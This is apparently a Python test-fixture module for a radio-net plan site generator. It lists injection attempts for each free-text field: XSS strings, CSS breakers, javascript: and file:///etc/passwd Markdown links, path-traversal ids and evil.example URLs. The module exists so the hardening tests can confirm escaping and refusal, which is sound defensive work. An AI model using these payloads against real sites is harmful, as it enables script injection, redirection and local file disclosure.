"""Hostile values for the hardening tests: injection attempts for every free-text field of a plan,
and the ids, names and URLs that must never lead outside the output folder.

The free-text fields of plan format 1 are ``net.title``, ``net.handling``, ``net.instructions``
(Markdown), ``net.base_url`` (an http(s) URL), ``stations.*.name`` and ``channels[].note``; every
other string is checked against a pattern (ids are slugs, addresses A-Z0-9, hours HH:MM-HH:MM,
time zones IANA names, grids Maidenhead) and is tried in :data:`HOSTILE_IDS` instead.
``{canary}`` in a string is replaced with the path of a file the build must never open.
"""

from __future__ import annotations

import json

# One attempt per line of attack. Each is at most 60 characters where it lands in the handling
# marking (the shortest free-text bound) and at most 80 where it lands in a station name.
MARKUP = [
    '<script>alert("title")</script>',
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(2)>",
    "</title></style><script>alert(3)</script>",
    "javascript:alert(4)",
    '<a href="javascript:alert(5)">five</a>',
    '<iframe src="file:///etc/passwd"></iframe>',
    '<img src="{canary}"/> pdf image',
    '<font name="{canary}" color="red">pdf font</font>',
    '<link href="file:///etc/passwd">pdf link</link>',
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "]]> <!-- --> <![CDATA[ x",
    "&lt;b&gt;pre-escaped&lt;/b&gt; &amp; &#60;script&#62;",
    "<style>*{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=x></form>',
    '<object data="file:///etc/passwd"></object>',
    '<svg><a xlink:href="javascript:alert(6)">svg link</a></svg>',
    "<math><maction actiontype=statusline>m</maction></math>",
]

# For the handling marking, which also goes into marking.css as a CSS string.
CSS_BREAKERS = [
    '"}</style><script>alert(7)</script>',
    "*/ @import url(https://evil.example/x.css); /*",
    '\\" } body { background: url(file:///etc/passwd) } {',
]

# Markdown in the standing instructions: links, autolinks, images and raw HTML.
MARKDOWN = [
    "[click me](javascript:alert(8))",
    "[upper case](JaVaScRiPt:alert(9))",
    "[entity](&#106;avascript:alert(10))",
    "[local file](file:///etc/passwd)",
    "[canary file](file://{canary})",
    "[data page](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=)",
    "[vb](vbscript:msgbox(12))",
    "[by reference][evil]\n\n[evil]: javascript:alert(13)",
    "<javascript:alert(14)>",
    "<file:///etc/passwd>",
    "![tracking image](https://evil.example/track.png)",
    "<script>alert(15)</script>",
    "Inline <img src=x onerror=alert(16)> html",
    '<a href="javascript:alert(17)">raw anchor</a>',
    '<div onclick="alert(18)">raw div</div>',
    "```html\n<script>alert(19)</script>\n```",
]

# Raw HTML written in the Markdown must show as these very characters (html is off).
MARKDOWN_LITERAL = [
    "<script>alert(15)</script>",
    "<img src=x onerror=alert(16)>",
    '<a href="javascript:alert(17)">raw anchor</a>',
    '<div onclick="alert(18)">raw div</div>',
    "<script>alert(19)</script>",
]

# A valid http(s) base_url that still carries the words; it may reach an href only as https.
BASE_URL = "https://intranet.example/nets/javascript:alert(21)/file:/etc/passwd/%2e%2e/"

# The plan file's own name appears beside every warning on the site.
FILE_NAME = '"><svg onload=alert(20)>.yaml'

# Ids, names and URLs that must never name a path: all refused by the reader.
HOSTILE_IDS = [
    "../evil", "..", ".", "/etc/passwd", "..%2f..%2fevil", "%2e%2e", "a/b", "a\\b", "a\0b",
    "x" * 5000, "ｅｖｉｌ", "\u2024\u2024/evil", "evil\u2215x", "\u202eevil", "-", "CON", "a..b", "~root",
    "evil\n", "Evil", "file:///etc/passwd", "javascript:alert(1)",
]
HOSTILE_URLS = [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "file:///etc/passwd", "file://{canary}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
    'https://x.example/"><script>alert(1)</script>', "https://x.example/ javascript:alert(1)",
    "https://intranet@evil.example/", " https://x.example/", "https:\\\\evil.example", "//evil.example/",
    "https://x.example/\u0000", "ftp://x.example/", "https://x.example/?next=javascript:alert(1)",
    "https://x.example/#javascript:alert(1)",
]


def strings(canary: str) -> list[str]:
    """Every hostile free-text string the hostile plan carries, in the plan's order."""
    return [s.replace("{canary}", canary) for s in MARKUP + CSS_BREAKERS + MARKDOWN] + [BASE_URL, FILE_NAME]


def q(text: str) -> str:
    """A YAML double-quoted scalar (JSON's string syntax is valid YAML)."""
    return json.dumps(text, ensure_ascii=False)


def hostile_plan(canary: str) -> tuple[str, dict]:
    """A valid plan with an injection attempt in every free-text field.

    Returns (YAML text, {field path: value}) so the tests know what each page must show as text.
    """
    m = [s.replace("{canary}", canary) for s in MARKUP]
    md = [s.replace("{canary}", canary) for s in MARKDOWN]
    # what the instructions hold: every Markdown attack, then every markup string as a paragraph
    instructions = "\n\n".join(md + m)
    names = {"ops": m[0], "ridge": m[1], "valley": m[2], "coast": m[3]}
    notes = m[4:14]
    fields = {"net.title": m[0] + " " + m[5], "net.handling": CSS_BREAKERS[0], "net.instructions": instructions,
              "net.base_url": BASE_URL}
    for sid, name in names.items():
        fields[f"stations.{sid}.name"] = name
    for i, note in enumerate(notes):
        fields[f"channels[{i}].note"] = note
    places = {"ops": (52.52, 13.40), "ridge": (52.10, 14.60), "valley": (51.30, 12.40), "coast": (53.60, 12.20)}
    lines = [
        "planpack: 1",
        "net:",
        "  id: hostile-net",
        f"  title: {q(fields['net.title'])}",
        f"  handling: {q(fields['net.handling'])}",
        "  timezone: Europe/Berlin",
        "  valid: {from: 2027-03-01, to: 2027-03-20}",
        "  solar: {ssn: 60}",
        "  net_address: HSTNET",
        "  links: hub",
        f"  base_url: {q(BASE_URL)}",
        f"  instructions: {q(instructions)}",
        "stations:",
    ]
    for k, (sid, name) in enumerate(names.items()):
        lat, lon = places[sid]
        lines += [f"  {sid}:", f"    name: {q(name)}", f"    address: HST{sid.upper()[:4]}",
                  *(["    role: control"] if sid == "ops" else []),
                  f"    at: {{lat: {lat}, lon: {lon}}}", "    power_w: 100", "    noise: rural", "    antenna: nvis",
                  "    ground: {soil: medium-dry, system: rods}"]
    lines.append("channels:")
    for i, note in enumerate(notes):
        lines.append(f"  - {{id: H{i + 1}, khz: {2500 + 600 * i}, mode: usb, note: {q(note)}}}")
    lines += ["antennas:", "  nvis:", "    kind: dipole", "    design_khz: 4600", "    height_m: 7"]
    return "\n".join(lines) + "\n", fields


# Free text rendered on each kind of page, for the "visible as text" checks.
def shown_on(page: str, fields: dict) -> list[str]:
    """The hostile values a page of the hostile site must show as plain text."""
    title = [fields["net.title"]]
    names = [v for k, v in fields.items() if k.startswith("stations.")]
    notes = [v for k, v in fields.items() if k.startswith("channels[")]
    if page == "index.html":
        return title + [fields["net.handling"]]
    if page.endswith("/index.html"):
        return title + [fields["net.handling"]] + names + notes + [FILE_NAME]
    if page.endswith("/scan.html"):
        # Markdown reads * _ ` [ ] ! & \\ itself, so only the markup free of them shows character for character
        return title + MARKDOWN_LITERAL + [s for s in MARKUP if not set(s) & set("*_`[]!&\\{")]
    if page.endswith("/safety.html"):
        return title + names
    return title
